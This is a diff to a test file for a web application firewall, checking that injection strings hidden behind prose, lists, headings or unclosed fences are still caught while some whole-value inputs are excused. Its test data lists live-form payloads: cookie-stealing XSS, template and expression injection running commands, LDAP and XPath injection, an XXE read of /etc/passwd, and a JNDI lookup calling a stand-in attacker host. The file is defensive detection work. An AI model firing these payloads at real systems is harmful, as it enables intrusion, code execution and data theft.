@@ -1,9 +1,11 @@
-// What a text may quote without being refused for it: code that stands by itself, and markup. A break-out closes what
-// it has not opened, and what it attacks knows of no fences, so that a fence around it is no excuse.
+// What stands in prose, and what a text quotes. Words in front of an attack cost nothing, and most of what runs it knows
+// of no sentence and no span of code: they excuse what is less than conclusive, or acts as a whole value only. A closed
+// fence excuses code that stands by itself, and markup. A break-out closes what it has not opened.
 
 import { describe, expect, test } from 'vitest'
 
 import { selfContained } from '../../shared/waf/fields/contained.ts'
+import { isForgiven, shareOf } from '../../shared/waf/judge/applies.ts'
 import { coreEngine } from '../corpora/program.ts'
 
 const prose =
@@ -71,6 +73,81 @@ describe('quoted code', () => {
       '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
     ])
       expect([code, judge('json', prose + FENCE(code))]).toEqual([code, true])
+  })
+})
+
+/** What goes on behind any words, each by the grammar of what runs it. */
+const INJECTIONS: readonly (readonly [string, string])[] = [
+  ...BREAKOUTS,
+  ['markup', '<img src=x onerror=alert(document.cookie)>'],
+  ['a template', "{{''.__class__.__mro__[1].__subclasses__()}}"],
+  ['an expression', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
+  ['a filter of a directory', '*)(uid=*))(|(uid=*'],
+  ['a path of XML', "' or name()='user' or 'a'='b"],
+  ['code behind a string', "'; return true; var a='"],
+  ['a lookup', '${jndi:ldap://evil.example/a}'],
+]
+
+const PADDINGS: readonly (readonly [string, (code: string) => string])[] = [
+  ['a sentence', (code) => prose + code],
+  ['words before and after', (code) => `${prose}See ${code} and tell us when it is done, as we wait for it.`],
+  [
+    'a language without blanks',
+    (code) => `${'我们已经使用了很长时间，对我们这里的所有人来说效果都很好。'.repeat(3)}${code}`,
+  ],
+  [
+    'Cyrillic',
+    (code) => `${'Мы пользуемся этим уже очень давно, и у нас всё работает хорошо. '.repeat(3)}${code}`,
+  ],
+  ['a list', (code) => `${prose}\n\n- one\n- two and three\n- ${code}`],
+  ['a quoted reply', (code) => `${prose}\n\n> ${code}\n\nMany thanks.`],
+  ['a heading', (code) => `# Notes\n\n${prose}\n\n## ${code}`],
+  ['two pages', (code) => prose.repeat(40) + code],
+  ['a fence that nothing closes', (code) => `${prose}\n\n\`\`\`\n${code}`],
+  ['an indented block', (code) => `${prose}\n\n    ${code}`],
+  ['a span of code', (code) => `${prose}see \`${code}\``],
+  ['a span within a sentence', (code) => `${prose}see \`${code}\` for what we mean, and thank you.`],
+]
+
+describe('an injection behind words', () => {
+  test.each(PADDINGS)('%s is no excuse', (_, pad) => {
+    for (const [name, code] of INJECTIONS)
+      for (const place of ['json', 'form'] as const)
+        expect([name, place, judge(place, pad(code))]).toEqual([name, place, true])
+  })
+
+  test.each([
+    ['a URL of this machine', 'http://127.0.0.1:8080/health'],
+    ['a step up', '../../README.md'],
+    ['a key of a prototype', '__proto__[a]=b'],
+  ])('what acts as a whole value only is excused: %s', (_, code) => {
+    expect(judge('json', `${prose}See ${code} for more of it.`)).toBe(false)
+  })
+})
+
+describe('what a finding counts for', () => {
+  const text = (quoted: boolean, fenced: boolean, whole: boolean) => ({
+    inProse: () => true,
+    quoted: () => quoted,
+    fenced: () => fenced,
+    selfContained: () => whole,
+  })
+
+  test.each([
+    ['no quote', text(false, false, true), 0.4, false, false],
+    ['a span, and less than conclusive', text(true, false, true), 0.9, false, true],
+    ['a span, and conclusive', text(true, false, true), 1, false, false],
+    ['a fence around what stands by itself', text(true, true, true), 1, false, true],
+    ['a fence around what does not', text(true, true, false), 1, false, false],
+    ['a fence around what does harm as it stands', text(true, true, true), 1, true, false],
+  ])('%s', (_, around, weight, firm, forgiven) => {
+    expect(isForgiven(around, 'shell-chain', weight, 3, firm)).toBe(forgiven)
+  })
+
+  test('many remarks on code make no attack of a text that reads as prose', () => {
+    expect(shareOf(text(false, false, true), 0.6)).toBe(0.5)
+    expect(shareOf(text(false, false, true), 1)).toBe(1)
+    expect(shareOf({ ...text(false, false, true), inProse: () => false }, 0.6)).toBe(1)
   })
 })
 
